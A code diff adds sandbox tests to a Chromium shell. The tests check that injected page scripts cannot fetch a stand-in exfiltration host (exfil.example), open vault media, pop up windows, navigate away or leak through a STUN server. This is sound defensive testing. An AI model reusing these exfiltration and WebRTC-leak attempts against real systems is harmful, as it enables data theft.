@@ -1,5 +1,6 @@
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createSocket } from "node:dgram";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { Frame, Page } from "playwright-core";
@@ -217,5 +218,125 @@ describe("Chromium shell", () => {
     expect(existsSync(profile)).toBe(true);
     await other.close();
     expect(existsSync(profile)).toBe(false);
+  });
+});
+
+describe("Chromium shell without the pages' own policy", () => {
+  let shell: ChromiumShell;
+  let app: SmallApp;
+  let page: Page;
+  let picture: Frame;
+  const blocked = (what: string, detail: string) => ({ kind: "blocked", what, detail });
+
+  beforeAll(async () => {
+    const strict = smallApp(new Uint8Array(4096));
+    const lax = { "content-type": "text/html" };
+    // The pages' policy is the first wall; here it is gone, so that the second one shows.
+    app = {
+      ...strict,
+      serveInterface: async (path) => {
+        const { status, body, headers } = await strict.serveInterface(path);
+        return { status, body, headers: { "content-type": headers["content-type"] ?? "" } };
+      },
+      serveVault: async (request) => {
+        const answer = await strict.serveVault(request);
+        return answer.kind === "source"
+          ? answer
+          : { ...answer, headers: request.path === "/" ? lax : { "content-type": "text/javascript" } };
+      },
+    };
+    const preloadFile = join(folder, "lax.cjs");
+    mkdirSync(folder, { recursive: true });
+    writeFileSync(preloadFile, await buildPreload());
+    shell = await createChromiumShell({ executable: findChromium() ?? "", preloadFile, headless: true });
+    await shell.open(app);
+    page = shell.testOnlyPage();
+    picture = page.frames().find((frame) => frame.url().startsWith(vault)) ?? page.mainFrame();
+  });
+
+  afterAll(async () => {
+    await shell.close();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  it.each(["https://exfil.example/x", "http://127.0.0.1:80/x", "https://app.vitrine.invalid/assets/page.js?x=1"])(
+    "refuses and observes a request of the picture frame to %s",
+    async (url) => {
+      const before = app.events.length;
+      expect(
+        await picture.evaluate(
+          async (to) =>
+            fetch(to, { mode: "no-cors" }).then(
+              () => "sent",
+              () => "refused",
+            ),
+          url,
+        ),
+      ).toBe("refused");
+      expect(app.events.slice(before)).toContainEqual(blocked("request", new URL(url).origin));
+    },
+  );
+
+  it("gives the interface's own script nothing of the vault, not even unread", async () => {
+    const before = app.vaultRequests.length;
+    const url = `${vault}/ticket-1/media`;
+    expect(
+      await page.evaluate(
+        async (to) =>
+          fetch(to, { mode: "no-cors" }).then(
+            () => "sent",
+            () => "refused",
+          ),
+        url,
+      ),
+    ).toBe("refused");
+    expect(app.vaultRequests.length).toBe(before);
+    expect(app.events).toContainEqual(blocked("request", vault));
+  });
+
+  it("does not let a frame open the samples themselves", async () => {
+    const before = app.vaultRequests.length;
+    await page.evaluate(
+      `(() => { const frame = document.createElement("iframe"); frame.src = "${vault}/ticket-1/media"; document.body.append(frame); })()`,
+    );
+    await expect.poll(() => app.events).toContainEqual(blocked("navigation", vault));
+    expect(app.vaultRequests.slice(before).filter(({ path }) => path === "/media")).toEqual([]);
+  });
+
+  it("closes and observes another window", async () => {
+    // By a real click: without one the browser's own popup blocker is in the way.
+    await page.evaluate(`(() => { document.body.onclick = () => { window.open("https://exfil.example/x"); }; })()`);
+    await page.click("h1");
+    await page.evaluate(`(() => { document.body.onclick = null; })()`);
+    await expect
+      .poll(() => app.events.filter((event) => event.kind === "blocked" && event.what === "window").length)
+      .toBeGreaterThan(0);
+    await expect.poll(() => page.context().pages().length).toBe(1);
+  });
+
+  it("comes back when a script leaves for an empty page", async () => {
+    await page.evaluate(`(() => { location.href = "about:blank"; })()`);
+    await expect.poll(() => app.events).toContainEqual(blocked("navigation", "about:"));
+    await expect.poll(() => page.url()).toBe("https://app.vitrine.invalid/");
+    await expect.poll(async () => page.evaluate("typeof workstation")).toBe("object");
+  });
+
+  it("R3: reaches no STUN server, whatever the page's policy", async () => {
+    const stun = createSocket("udp4");
+    let packets = 0;
+    stun.on("message", () => (packets += 1));
+    await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
+    await picture
+      .page()
+      .mainFrame()
+      .evaluate(async (port) => {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+        peer.createDataChannel("x");
+        await peer.setLocalDescription(await peer.createOffer());
+        await new Promise((resolve) => setTimeout(resolve, 1500));
+        peer.close();
+      }, stun.address().port);
+    stun.close();
+    expect(packets).toBe(0);
   });
 });
